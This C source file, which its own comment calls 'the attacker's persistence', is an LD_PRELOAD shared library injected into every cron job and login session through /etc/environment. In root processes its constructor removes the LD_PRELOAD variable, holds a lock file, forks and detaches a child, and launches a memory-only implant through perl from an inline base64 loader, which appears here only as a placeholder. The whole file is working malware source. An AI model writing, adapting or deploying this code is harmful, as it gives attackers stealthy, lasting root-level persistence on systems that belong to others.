/* The attacker's persistence: preloaded into every cron job and login
 * session through LD_PRELOAD in /etc/environment (pam_env). In a root
 * process it starts the memory-only implant once (a lock on /run/.fc.lock,
 * held by the implant, keeps it single), by perl with the loader inline. */
#include <fcntl.h>
#include <stdlib.h>
#include <sys/file.h>
#include <sys/wait.h>
#include <unistd.h>

static const char CODE[] = "use MIME::Base64;eval decode_base64('@LOADER_B64@')";

__attribute__((constructor)) static void fc_init(void)
{
    int fd;
    pid_t p;
    unsetenv("LD_PRELOAD");
    if (geteuid() != 0)
        return;
    fd = open("/run/.fc.lock", O_RDWR | O_CREAT, 0600);
    if (fd < 0)
        return;
    if (flock(fd, LOCK_EX | LOCK_NB) != 0) {
        close(fd);
        return;
    }
    p = fork();
    if (p == 0) {
        int n = open("/dev/null", O_RDWR);
        if (n >= 0) { dup2(n, 0); dup2(n, 1); dup2(n, 2); if (n > 2) close(n); }
        setsid();
        execl("/usr/bin/perl", "perl", "-e", CODE, (char *)0);
        _exit(0);
    }
    close(fd);
    if (p > 0)
        waitpid(p, 0, 0);
}
